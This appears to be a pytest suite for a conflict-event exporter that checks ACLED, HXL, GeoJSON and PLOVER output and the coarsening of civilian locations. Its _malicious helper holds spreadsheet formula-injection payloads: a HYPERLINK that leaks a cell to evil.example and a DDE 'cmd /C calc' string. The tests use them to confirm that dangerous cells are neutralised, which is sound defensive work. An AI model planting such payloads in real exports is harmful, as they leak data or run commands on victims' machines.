"""Each export format validated: ACLED's exact header, HXL tags, GeoJSON, PLOVER fields, coarsening."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sitroom.exports import neutralise_cell, write_export
from sitroom.exports.coarsen import COARSE_DEGREES, coarsen_record
from sitroom.store import Store, open_store
from tests.api.sample import Sample, populate

# copied from issue 6, in ACLED's order
ISSUE_ACLED_COLUMNS = (
    "event_id_cnty, event_date, year, time_precision, disorder_type, event_type, sub_event_type, actor1, "
    "assoc_actor_1, inter1, actor2, assoc_actor_2, inter2, interaction, civilian_targeting, iso, region, "
    "country, admin1, admin2, admin3, location, latitude, longitude, geo_precision, source, source_scale, "
    "notes, fatalities, tags, timestamp"
)
ACLED_HEADER = ISSUE_ACLED_COLUMNS.split(", ")
ISSUE_HXL_TAGS = (
    "#event+code #date+occurred #event+type #group+name+first #group+name+second #country+code #adm1+name "
    "#loc+name #geo+lat #geo+lon #meta+source #description #affected+killed"
)
HXL_REQUIRED = ISSUE_HXL_TAGS.split()
PLOVER_REQUIRED = ("id", "date", "event", "mode", "context", "source", "target")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = open_store(f"sqlite:///{tmp_path / 'exports.db'}")
    yield opened
    opened.close()


@pytest.fixture
def sample(store: Store) -> Sample:
    return populate(store)


@pytest.fixture
def records(store: Store, sample: Sample) -> list[dict[str, Any]]:
    return list(store.iter_events())


def export(records: list[dict[str, Any]], fmt: str, **kw: Any) -> str:
    out = io.StringIO()
    assert write_export(iter(records), fmt, out, **kw) == len(records)
    return out.getvalue()


def by_id(rows: list[dict[str, Any]], key: str) -> dict[str, dict[str, Any]]:
    return {row[key]: row for row in rows}


def test_acled_csv_has_acleds_31_columns_in_order(records: list[dict[str, Any]], sample: Sample) -> None:
    text = export(records, "acled-csv")
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == ACLED_HEADER and len(ACLED_HEADER) == 31
    rows = by_id(list(reader), "event_id_cnty")
    assert set(rows) == sample.all
    wire = rows[sample.wire]
    assert wire["event_date"] == "2026-01-08" and wire["year"] == "2026" and wire["time_precision"] == "1"
    assert (
        wire["actor1"] == "Syrian Arab Army"
        and wire["inter1"] == "1"
        and wire["actor2"] == "Civilians (Syria)"
    )
    assert wire["interaction"] == "17" and wire["fatalities"] == "7"
    assert (wire["iso"], wire["country"], wire["region"], wire["admin1"]) == (
        "760",
        "Syria",
        "Middle East",
        "Idlib",
    )
    assert (wire["location"], wire["latitude"], wire["longitude"], wire["geo_precision"]) == (
        "Ariha",
        "35.81",
        "36.61",
        "1",
    )
    assert (
        wire["source"] == "Demo Wire"
        and "[according to: Demo Wire > local health officials]" in wire["notes"]
    )
    assert wire["timestamp"] == "1767888300"
    protest = rows[sample.protest]
    assert protest["geo_precision"] == "3" and protest["interaction"] == "60" and protest["fatalities"] == "0"
    hostile = rows[sample.hostile]
    assert hostile["latitude"] == "" and hostile["country"] == "" and hostile["interaction"] == "30"


def test_acled_civilian_targeting_needs_a_violent_acled_type_and_civilian_victims(
    records: list[dict[str, Any]], sample: Sample
) -> None:
    wire = next(r for r in records if r["id"] == sample.wire)
    violent = {**wire, "acled_event_type": "Explosions/Remote violence"}
    rows = list(csv.DictReader(io.StringIO(export([wire, violent], "acled-csv"))))
    assert [r["civilian_targeting"] for r in rows] == ["", "Civilian targeting"]
    assert rows[1]["disorder_type"] == "Political violence"


def test_hxl_csv_has_a_hashtag_row_under_the_header(records: list[dict[str, Any]], sample: Sample) -> None:
    rows = list(csv.reader(io.StringIO(export(records, "hxl-csv"))))
    header, tags, data = rows[0], rows[1], rows[2:]
    assert len(header) == len(tags) and all(tag.startswith("#") for tag in tags)
    assert set(HXL_REQUIRED) <= set(tags)
    assert len(data) == 5
    wire = next(row for row in data if row[0] == sample.wire)
    assert wire[tags.index("#affected+killed")] == "7" and wire[tags.index("#country+code")] == "SYR"
    assert wire[tags.index("#meta+sources+num")] == "2"


def test_geojson_is_a_feature_collection_of_points(records: list[dict[str, Any]], sample: Sample) -> None:
    collection = json.loads(export(records, "geojson"))
    assert collection["type"] == "FeatureCollection" and len(collection["features"]) == 5
    features = {f["id"]: f for f in collection["features"]}
    wire = features[sample.wire]
    assert wire["type"] == "Feature" and wire["geometry"] == {"type": "Point", "coordinates": [36.61, 35.81]}
    assert wire["properties"]["event_type"] == "ASSAULT" and wire["properties"]["fatalities"] == 7
    assert wire["properties"]["evidence"]["outlet"] == "Demo Wire"
    assert features[sample.hostile]["geometry"] is None
    for feature in collection["features"]:
        if feature["geometry"]:
            lon, lat = feature["geometry"]["coordinates"]
            assert -180 <= lon <= 180 and -90 <= lat <= 90


def test_geojson_of_no_events_is_an_empty_collection() -> None:
    assert json.loads(export([], "geojson")) == {"type": "FeatureCollection", "features": []}


def test_plover_records_have_plovers_fields(records: list[dict[str, Any]], sample: Sample) -> None:
    lines = [json.loads(line) for line in export(records, "plover-jsonl").splitlines()]
    assert len(lines) == 5
    for record in lines:
        assert set(PLOVER_REQUIRED) <= set(record)
        for actor in record["source"] + record["target"]:
            assert {"actorText", "code"} <= set(actor)
    wire = by_id(lines, "id")[sample.wire]
    assert wire["event"] == "ASSAULT" and wire["mode"] == "heavy-weapons" and wire["date"] == "2026-01-08"
    assert wire["source"] == [
        {"actorText": "Syrian government forces", "code": "SYR", "sector": "MIL", "name": "Syrian Arab Army"}
    ]
    assert (
        wire["dead"] == "7"
        and wire["eventLoc"]["name"] == "Ariha"
        and wire["text"].startswith("Shelling hit")
    )
    assert wire["sitroom"]["attribution"]["chain"] == ["Demo Wire", "local health officials"]


def test_jsonl_is_the_event_record(records: list[dict[str, Any]]) -> None:
    assert [json.loads(line) for line in export(records, "jsonl").splitlines()] == records


def test_coarsening_rounds_only_civilian_protection_events(
    records: list[dict[str, Any]], sample: Sample
) -> None:
    out = by_id([json.loads(line) for line in export(records, "jsonl", coarsen=True).splitlines()], "id")
    evac = out[sample.evac]["location"]
    assert (evac["lat"], evac["lon"]) == (36.2, 37.1)
    assert evac["precision"] == "admin2" and evac["name"] == "Aleppo" and evac["geonameid"] is None
    assert out[sample.evac]["coarsened"] is True
    untouched = by_id(records, "id")
    for other in (sample.wire, sample.protest, sample.hostile):
        assert out[other] == untouched[other]
    rows = by_id(
        list(csv.DictReader(io.StringIO(export(records, "acled-csv", coarsen=True)))), "event_id_cnty"
    )
    assert rows[sample.evac]["latitude"] == "36.2" and "coordinates coarsened" in rows[sample.evac]["tags"]


@pytest.mark.parametrize(("lat", "expected"), [(36.2163, 36.2), (36.25, 36.2), (-0.04, -0.0), (35.96, 36.0)])
def test_coarse_grid(lat: float, expected: float) -> None:
    record = {
        "civilian_protection": ["evacuation"],
        "location": {"lat": lat, "lon": 0.0, "precision": "city", "name": "X"},
    }
    assert coarsen_record(record)["location"]["lat"] == pytest.approx(expected, abs=COARSE_DEGREES / 100)


def test_unknown_format_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown export format 'xlsx'"):
        write_export([], "xlsx", io.StringIO())


def _malicious(record: dict[str, Any]) -> dict[str, Any]:
    """``record`` with attacker-written text in the actor, the evidence sentence and the outlet, and a
    place west of Greenwich and south of the equator."""
    actor = [{**record["actor"][0], "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")'}]
    evidence = {**record["evidence"], "sentence": "@SUM(1+1)*cmd|' /C calc'!A0", "outlet": "+Wire"}
    location = {**record["location"], "lat": -3.5, "lon": -61.25, "name": "-Ariha"}
    return {**record, "actor": actor, "evidence": evidence, "location": location}


@pytest.mark.parametrize(("fmt", "actor", "tags"), [("acled-csv", "actor1", 0), ("hxl-csv", "actor1", 1)])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    records: list[dict[str, Any]], sample: Sample, fmt: str, actor: str, tags: int
) -> None:
    wire = next(r for r in records if r["id"] == sample.wire)
    lines = export([_malicious(wire)], fmt).splitlines()
    del lines[1 : 1 + tags]
    row = next(csv.DictReader(lines))
    assert row[actor] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["notes"].startswith("'@SUM(1+1)") and row["source"] == "'+Wire"
    assert row["location"] == "'-Ariha"
    # numbers stay numbers: a negative coordinate is not a formula
    assert (row["latitude"], row["longitude"]) == ("-3.5", "-61.25")
    assert row["fatalities"] == "7"


@pytest.mark.parametrize(
    ("value", "numeric", "expected"),
    [
        ("=1+1", False, "'=1+1"),
        ("+33 6 12", False, "'+33 6 12"),
        ("-3.5", False, "'-3.5"),  # a text column: a number-looking text is text
        ("\tx", False, "'\tx"),
        ("\r=1", False, "'\r=1"),
        ("@x", False, "'@x"),
        ("Ariha", False, "Ariha"),
        ("", False, ""),
        (-3.5, True, -3.5),
        ("-3.5", True, "-3.5"),
        ("-1e-3", True, "-1e-3"),
        (-12, True, -12),
        ("=1+1", True, "'=1+1"),  # a numeric column holding a formula is neutralised too
        ("-", True, "'-"),
    ],
)
def test_neutralise_cell(value: Any, numeric: bool, expected: Any) -> None:
    assert neutralise_cell(value, numeric) == expected


def test_a_date_inferred_from_the_report_travels_with_its_week_precision(
    records: list[dict[str, Any]], sample: Sample
) -> None:
    inferred = [
        {**r, "date_precision": "week", "date_source": "report"} if r["id"] == sample.wire else r
        for r in records
    ]
    acled = by_id(list(csv.DictReader(io.StringIO(export(inferred, "acled-csv")))), "event_id_cnty")
    assert acled[sample.wire]["time_precision"] == "2"  # ACLED: 1 day, 2 week, 3 month
    plover = by_id([json.loads(line) for line in export(inferred, "plover-jsonl").splitlines()], "id")
    assert plover[sample.wire]["sitroom"]["date_source"] == "report"
    assert plover[sample.wire]["sitroom"]["date_precision"] == "week"
    features = json.loads(export(inferred, "geojson"))["features"]
    (wire,) = [f for f in features if f["properties"]["id"] == sample.wire]
    assert wire["properties"]["date_source"] == "report"


def test_a_background_event_is_marked_in_every_export(records: list[dict[str, Any]], sample: Sample) -> None:
    """Issue 19: history (a decade, here) says so in the record, PLOVER's sitroom block and the
    GeoJSON properties; ACLED's CSV gives a decade its coarsest time_precision, 3."""
    old = [
        {**r, "date": "1990-01-01", "date_precision": "decade", "background": True}
        if r["id"] == sample.wire
        else r
        for r in records
    ]
    plover = by_id([json.loads(line) for line in export(old, "plover-jsonl").splitlines()], "id")
    assert plover[sample.wire]["sitroom"]["background"] is True
    assert plover[sample.evac]["sitroom"]["background"] is False
    acled = by_id(list(csv.DictReader(io.StringIO(export(old, "acled-csv")))), "event_id_cnty")
    assert acled[sample.wire]["time_precision"] == "3"
    features = json.loads(export(old, "geojson"))["features"]
    (wire,) = [f for f in features if f["properties"]["id"] == sample.wire]
    assert wire["properties"]["background"] is True
